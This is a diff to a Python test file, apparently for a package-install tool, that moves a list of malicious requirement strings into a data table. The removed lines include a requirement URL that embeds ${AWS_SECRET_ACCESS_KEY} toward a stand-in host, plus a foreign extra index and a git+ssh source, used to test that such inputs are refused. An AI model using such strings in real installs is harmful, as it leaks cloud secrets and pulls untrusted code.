@@ -13,6 +13,7 @@ from ipexctl.model.facts import Facts, Installed, Python
 from ipexctl.model.stack import InstallMarker, StackMpi, StackRequest
 from ipexctl.model.tasks import Install
 from tests.markers import MARKER
+from tests.tables import read_table
 
 PACKAGES = {
     "torch": "2.7.0+cpu",
@@ -68,16 +69,7 @@ def test_a_host_alone_names_no_launcher_that_the_others_start() -> None:
     assert find(Install(with_=("tqdm",)), evil, evil) is not None, "both say so"
 
 
-@pytest.mark.parametrize(
-    "requirement",
-    [
-        "-e /shared/project",
-        "--extra-index-url=https://elsewhere.example/simple",
-        "colour @ https://elsewhere.example/${AWS_SECRET_ACCESS_KEY}/colour-1-py3-none-any.whl",
-        "/shared/project",
-        "colour @ git+ssh://elsewhere.example/colour",
-    ],
-)
+@pytest.mark.parametrize("requirement", read_table("extend/a_host_gives_uv_no_options_variables_or_projects"))
 def test_a_host_gives_uv_no_options_variables_or_projects(requirement: str) -> None:
     """uv built the project here, took packages of that index, and asked for a URL with the variable's value in it."""
     evil = replace(ENV, requested=("tabulate", requirement))
